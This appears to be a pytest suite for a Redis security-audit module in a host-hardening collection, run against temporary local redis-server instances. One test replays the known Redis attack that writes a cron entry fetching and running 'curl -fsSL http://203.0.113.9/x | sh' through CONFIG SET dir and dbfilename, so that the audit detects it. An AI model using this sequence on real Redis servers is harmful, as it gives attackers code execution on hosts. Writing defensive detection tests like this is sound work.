"""redis_audit against the real Debian redis-server (7.0.x), on free 127.0.0.1 ports.

Every test starts its own instance(s) in a temp dir and stops them in a fixture's finally.
The machine's own Redis (if any, e.g. 127.0.0.1:6379) is neither needed nor touched.
"""
import json
import os

import pytest

from ansible_collections.hostguard.hardening.plugins.module_utils.core import runner as areas
from ansible_collections.hostguard.hardening.plugins.module_utils.cron import audit as cron
from ansible_collections.hostguard.hardening.plugins.module_utils.redis import audit as redis
from ansible_collections.hostguard.hardening.plugins.module_utils.redis import resp
from redis_helpers import RedisInstance, SilentListener, free_port, raw_command

pytestmark = pytest.mark.real

PASSWORD = "hg-redis-S3cret-7f1c9a"


@pytest.fixture
def redis_factory(tmp_path):
    started = []

    def start(conf_lines=(), port=None, name="r", unixsocket=None):
        workdir = tmp_path / ("hg-redis-" + name)
        workdir.mkdir()
        inst = RedisInstance(workdir, list(conf_lines), free_port() if port is None else port, unixsocket)
        started.append(inst)
        return inst.start()

    try:
        yield start
    finally:
        for inst in started:
            inst.stop()


def run_audit(**options):
    opts = {"timeout": 2.0}
    opts.update(options)
    return redis.audit(opts)


def one(result, check_id, subject):
    hits = [f for f in result["findings"] if f["id"] == check_id and f["subject"] == subject]
    assert len(hits) == 1, (check_id, subject, [(f["id"], f["subject"]) for f in result["findings"]])
    return hits[0]


def instance_name(inst):
    return "redis-server pid %d" % inst.proc.pid


def test_default_instance(redis_factory):
    inst = redis_factory(["bind 127.0.0.1 -::1", "protected-mode yes"])
    result = run_audit()
    name = instance_name(inst)
    facts = [i for i in result["facts"]["instances"] if i["pid"] == inst.proc.pid]
    assert len(facts) == 1
    fact = facts[0]
    assert fact["config"] == inst.conf
    assert any(l["family"] == "tcp" and l["port"] == inst.port and l["address"] == "127.0.0.1"
               for l in fact["listeners"])
    probe = [p for p in fact["probes"] if p["endpoint"] == "127.0.0.1:%d" % inst.port][0]
    assert probe["ping"] == "ok" and probe["version"].startswith("7.")
    assert probe["runtime"]["dir"] == inst.datadir

    assert one(result, "HG-REDIS-011", name)["status"] == "pass"
    assert one(result, "HG-REDIS-001", name)["status"] == "pass"       # loopback only
    assert one(result, "HG-REDIS-002", name)["status"] == "pass"
    f003 = one(result, "HG-REDIS-003", name)                            # local clients may CONFIG
    assert f003["status"] == "fail" and f003["severity"] == "high"
    assert one(result, "HG-REDIS-005", name)["status"] == "pass"
    f006 = one(result, "HG-REDIS-006", name)
    assert f006["status"] == "fail" and f006["severity"] == "medium"
    assert f006["evidence"]["default_user"] == "nopass"
    dump = os.path.join(inst.datadir, "dump.rdb")
    f004 = one(result, "HG-REDIS-004", dump)
    assert f004["status"] == "pass" and f004["evidence"]["path"] == dump
    # the tests run as root, so does their redis-server
    f007 = one(result, "HG-REDIS-007", name)
    assert f007["status"] == "fail" and f007["evidence"]["uid"] == 0
    # the config file itself was graded
    assert one(result, "HG-REDIS-013", inst.conf)["status"] == "pass"


def test_exposed_instance_attack_replay(redis_factory, tmp_path):
    inst = redis_factory(["bind 127.0.0.1", "protected-mode no", "enable-protected-configs yes"])
    name = instance_name(inst)
    before = run_audit()
    assert one(before, "HG-REDIS-004", os.path.join(inst.datadir, "dump.rdb"))["status"] == "pass"
    assert one(before, "HG-REDIS-002", name)["status"] == "fail"
    f005 = one(before, "HG-REDIS-005", name)
    assert f005["status"] == "fail" and f005["severity"] == "high"

    # the attack of seed 000, replayed with the test's own RESP client into a temp tree
    spool = tmp_path / "var" / "spool" / "cron"
    spool.mkdir(parents=True)
    addr = inst.address
    assert raw_command(addr, "CONFIG", "SET", "dir", str(spool)) == b"+OK\r\n"
    assert raw_command(addr, "CONFIG", "SET", "dbfilename", "root") == b"+OK\r\n"
    assert raw_command(addr, "SET", "x", "\n* * * * * curl -fsSL http://203.0.113.9/x | sh\n") == b"+OK\r\n"
    assert raw_command(addr, "SAVE") == b"+OK\r\n"
    planted = spool / "root"
    assert planted.exists() and b"curl -fsSL" in planted.read_bytes()

    result = run_audit()
    f004 = one(result, "HG-REDIS-004", str(planted))
    assert f004["status"] == "fail" and f004["severity"] == "critical"
    assert f004["evidence"]["path"] == str(planted)
    assert f004["evidence"]["runtime_dir"] == str(spool)
    assert f004["evidence"]["config_dir"] == inst.datadir
    assert f004["evidence"]["dir_source"] == "CONFIG GET"
    assert any("cron spool" in r for r in f004["evidence"]["reasons"])
    assert any("differs from the config" in r for r in f004["evidence"]["reasons"])
    assert one(result, "HG-REDIS-003", name)["status"] == "fail"
    assert one(result, "HG-REDIS-001", name)["status"] == "pass"  # still loopback only

    # The cron audit of the temp tree as an alternate root finds the dump where crond looks.
    cron_result = cron.audit({"root": str(tmp_path)})
    f001 = [f for f in cron_result["findings"]
            if f["id"] == "HG-CRON-001" and f["subject"] == "/var/spool/cron/root"]
    assert len(f001) == 1 and f001[0]["status"] == "fail", \
        [(f["id"], f["subject"], f["status"]) for f in cron_result["findings"] if f["status"] != "pass"]

    # Cross-links need one path both areas agree on. Under root=<tmp> cron names the file
    # /var/spool/cron/root, while the live Redis (same mount namespace) names it
    # <tmp>/var/spool/cron/root, and run_areas gives every area the same root (redis with
    # root != / does no probe). So the host_audit-equivalent run uses root "/" and hands cron
    # the temp spool as an extra path: both areas then name the file by its absolute path.
    combined = areas.audit_host(areas=["cron", "redis"], root="/",
                                options={"cron": {"extra_paths": [str(spool)]},
                                         "redis": {"timeout": 2.0}})
    assert not combined["errors"], combined["errors"]
    hits = dict((f["id"], f) for f in combined["findings"]
                if f["subject"] == str(planted) and f["id"] in ("HG-CRON-001", "HG-REDIS-004"))
    assert set(hits) == {"HG-CRON-001", "HG-REDIS-004"}, \
        [(f["id"], f["subject"]) for f in combined["findings"] if f["status"] == "fail"]
    assert hits["HG-CRON-001"]["status"] == "fail"
    assert hits["HG-REDIS-004"]["status"] == "fail" and hits["HG-REDIS-004"]["severity"] == "critical"
    assert "HG-REDIS-004" in hits["HG-CRON-001"].get("related", [])
    assert "HG-CRON-001" in hits["HG-REDIS-004"].get("related", [])
    # links never cross to an unrelated path: the untouched data dir's findings carry none
    for finding in combined["findings"]:
        if inst.datadir in finding["subject"]:
            assert "related" not in finding, finding


def test_drift_seen_through_proc_cwd_without_password(redis_factory, tmp_path):
    """CONFIG refused to us, yet Redis chdir()s into its dir: /proc/<pid>/cwd betrays the drift."""
    inst = redis_factory(["bind 127.0.0.1", "requirepass " + PASSWORD, "enable-protected-configs yes"])
    crond = tmp_path / "etc" / "cron.d"
    crond.mkdir(parents=True)
    sock = resp.RespClient(inst.address, timeout=5).connect()
    try:
        assert sock.call("AUTH", PASSWORD) == "OK"
        assert sock.call("CONFIG", "SET", "dir", str(crond)) == "OK"
    finally:
        sock.close()
    result = run_audit()
    f004 = one(result, "HG-REDIS-004", str(crond / "dump.rdb"))
    assert f004["status"] == "fail" and f004["severity"] == "critical"
    assert f004["evidence"]["dir_source"] == "/proc/<pid>/cwd"
    assert PASSWORD not in json.dumps(result)


def test_password_protected(redis_factory):
    inst = redis_factory(["bind 127.0.0.1", "requirepass " + PASSWORD])
    os.chmod(inst.conf, 0o644)   # world-readable, and it holds the password
    name = instance_name(inst)
    endpoint = "127.0.0.1:%d" % inst.port

    # without the password INFO (config_file) is refused: the config is found by its port
    without = run_audit(config_paths=[inst.conf])
    probe = [p for i in without["facts"]["instances"] if i["pid"] == inst.proc.pid
             for p in i["probes"] if p["endpoint"] == endpoint][0]
    assert probe["ping"] == "noauth" and probe["config_access"] == "noauth"
    assert probe["version"] is None  # INFO refused without auth
    fact = [i for i in without["facts"]["instances"] if i["pid"] == inst.proc.pid][0]
    assert fact["config"] == inst.conf
    assert one(without, "HG-REDIS-003", name)["status"] == "pass"
    f006 = one(without, "HG-REDIS-006", name)
    assert f006["status"] == "pass" and f006["detail"] == "authentication configured"
    f009 = one(without, "HG-REDIS-009", inst.conf)
    assert f009["status"] == "fail" and f009["severity"] == "high" and f009["evidence"]["holds_secret"]

    with_pw = run_audit(password=PASSWORD, endpoints=[endpoint])
    probe = [p for i in with_pw["facts"]["instances"] if i["pid"] == inst.proc.pid
             for p in i["probes"] if p["endpoint"] == endpoint]
    assert len(probe) == 1   # the extra endpoint is the same listener: probed once
    probe = probe[0]
    assert probe["auth"] == "ok" and probe["version"].startswith("7.")
    assert probe["runtime"]["dir"] == inst.datadir
    assert probe["acl_default"]["passwords"] == 1 and "nopass" not in probe["acl_default"]["flags"]

    wrong = run_audit(password="not-the-" + PASSWORD[::-1], endpoints=[endpoint])
    probe = [p for i in wrong["facts"]["instances"] if i["pid"] == inst.proc.pid for p in i["probes"]][0]
    assert probe["auth"] == "failed"
    for result in (without, with_pw, wrong):
        assert PASSWORD not in json.dumps(result)


def test_unix_socket_only(redis_factory, tmp_path):
    sock_path = str(tmp_path / "hg-redis.sock")
    inst = redis_factory(["unixsocket " + sock_path, "unixsocketperm 700"], port=0, unixsocket=sock_path)
    name = instance_name(inst)
    result = run_audit(endpoints=[sock_path])
    fact = [i for i in result["facts"]["instances"] if i["pid"] == inst.proc.pid][0]
    assert [l["family"] for l in fact["listeners"]] == ["unix"]
    assert fact["listeners"][0]["path"] == sock_path
    assert [p["endpoint"] for p in fact["probes"]] == [sock_path]
    assert fact["probes"][0]["ping"] == "ok"
    assert one(result, "HG-REDIS-010", sock_path)["status"] == "pass"
    assert one(result, "HG-REDIS-001", name)["status"] == "pass"
    assert one(result, "HG-REDIS-013", inst.conf)["status"] == "pass"   # port 0


def test_silent_listener_gives_error_not_hang():
    listener = SilentListener()
    try:
        endpoint = "127.0.0.1:%d" % listener.port
        result = run_audit(endpoints=[endpoint], timeout=0.5)
        finding = one(result, "HG-REDIS-010", endpoint)
        assert finding["status"] == "error"
        assert finding["evidence"]["reason"] == "timeout"
    finally:
        listener.close()


def test_endless_reply_is_cut_at_the_bound():
    listener = SilentListener(flood=True)
    try:
        endpoint = "127.0.0.1:%d" % listener.port
        result = run_audit(endpoints=[endpoint], timeout=30.0, max_reply_bytes=256 * 1024)
        finding = one(result, "HG-REDIS-010", endpoint)
        assert finding["status"] == "error"
        assert finding["evidence"]["reason"] == "too_large"
    finally:
        listener.close()
